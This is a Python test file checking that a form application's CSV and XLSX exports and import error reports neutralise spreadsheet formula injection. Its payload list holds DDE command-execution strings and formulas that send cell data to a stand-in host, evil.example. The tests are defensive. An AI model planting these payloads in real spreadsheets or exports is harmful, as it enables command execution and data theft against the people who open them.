"""Formula injection: every exported text cell (values, option labels, formula results, field
labels in the header row) that starts with = + - @ tab or CR is neutralised with an apostrophe,
in CSV and in XLSX (where no cell may be a formula); numbers stay numbers."""
from __future__ import annotations

import csv
import io

import openpyxl

from tests.conftest import fresh

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1", "+cmd|' /C notepad'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    "@x", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]
HEADER_LABEL = "=HYPERLINK(\"http://evil.example\",\"Name\")"


def _form(api) -> tuple[str, list[str]]:
    app_id = api.post("/api/v1/apps", json={"key": fresh("csv"), "name": "CSV"}).json["id"]
    fields = [
        {"key": "name", "type": "text", "label": HEADER_LABEL},
        {"key": "notes", "type": "textarea", "label": "@Notes"},
        {"key": "choice", "type": "select", "label": "+Choice", "options": PAYLOADS[:6]},
        {"key": "tags", "type": "multiselect", "label": "-Tags", "options": PAYLOADS[:6]},
        {"key": "amount", "type": "number", "label": "Amount"},
        {"key": "echo", "type": "formula", "label": "\tEcho", "expression": "name",
         "result": "text"},
        {"key": "joined", "type": "formula", "label": "Joined", "expression": "'=' & notes",
         "result": "text"},
    ]
    r = api.post(f"/api/v1/apps/{app_id}/forms", json={"key": "lead", "name": "Lead",
                                                       "fields": fields})
    assert r.status_code == 201, r.json
    return r.json["id"], [f["label"] for f in fields]


def _seed(api) -> str:
    form_id, _labels = _form(api)
    rows = [{"name": p, "notes": p, "choice": PAYLOADS[i % 6], "tags": [PAYLOADS[i % 6]],
             "amount": -5 - i} for i, p in enumerate(PAYLOADS)]
    r = api.post(f"/api/v1/forms/{form_id}/records/bulk", json={"records": [{"data": row} for row in rows]})
    assert r.status_code == 201, r.json
    return form_id


def _unsafe(text: str) -> bool:
    """A cell a spreadsheet would run: a formula start, unless it is a plain number (-5)."""
    try:
        float(text)
        return False
    except ValueError:
        return text.startswith(DANGEROUS_STARTS)


def test_csv_export_neutralises_every_formula_start(api):
    form_id = _seed(api)
    r = api.get(f"/api/v1/forms/{form_id}/export?format=csv")
    assert r.status_code == 200
    assert r.headers["Content-Disposition"].startswith("attachment")
    table = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
    header, body = table[0], table[1:]
    assert len(body) == len(PAYLOADS)
    unsafe = [(i, cell) for i, row in enumerate(table) for cell in row if _unsafe(cell)]
    assert unsafe == []
    assert "'" + HEADER_LABEL in header and "'@Notes" in header and "'\tEcho" in header
    names = {row[header.index("'" + HEADER_LABEL)] for row in body}
    assert names == {"'" + p for p in PAYLOADS}  # neutralised, and nothing else changed
    joined = {row[header.index("Joined")] for row in body}
    assert all(j.startswith("'=") for j in joined)
    amounts = sorted(float(row[header.index("Amount")]) for row in body)
    assert amounts[0] == -5 - (len(PAYLOADS) - 1) and amounts[-1] == -5  # numbers stay numbers


def test_xlsx_export_has_no_formula_and_neutralised_text(api):
    form_id = _seed(api)
    r = api.get(f"/api/v1/forms/{form_id}/export?format=xlsx")
    assert r.status_code == 200
    assert r.headers["Content-Disposition"].startswith("attachment")
    sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
    rows = list(sheet.iter_rows())
    assert all(c.data_type != "f" for row in rows for c in row)
    texts = [c.value for row in rows for c in row if isinstance(c.value, str)]
    assert [t for t in texts if _unsafe(t)] == []
    header = [c.value for c in rows[0]]
    assert "'" + HEADER_LABEL in header
    names = {row[header.index("'" + HEADER_LABEL)].value for row in rows[1:]}
    # XML turns a stored CR into LF when the sheet is read back; the apostrophe is what counts.
    assert names == {"'" + p.replace("\r", "\n") for p in PAYLOADS}
    amounts = [row[header.index("Amount")].value for row in rows[1:]]
    assert all(isinstance(a, (int, float)) and a < 0 for a in amounts)


def test_job_error_report_is_neutralised(api, worker):
    """Import error reports echo user text (the bad value, the column) back as CSV."""
    form_id, _labels = _form(api)
    bad = io.StringIO()
    csv.writer(bad).writerows([["=cmd|' /C calc'!A0", "Amount"], ["x", "=1+1"], ["y", "@z"]])
    r = api.post(f"/api/v1/forms/{form_id}/import", data={
        "file": (io.BytesIO(bad.getvalue().encode()), "evil.csv"),
        "mapping": '{"Amount": "amount", "=cmd|\' /C calc\'!A0": "name"}'},
        content_type="multipart/form-data")
    assert r.status_code == 202, r.json
    worker()
    job_id = r.json["job_id"]
    report = api.get(f"/api/v1/jobs/{job_id}/errors.csv")
    assert report.status_code == 200
    table = list(csv.reader(io.StringIO(report.data.decode("utf-8-sig"), newline="")))
    assert [cell for row in table for cell in row if _unsafe(cell)] == []
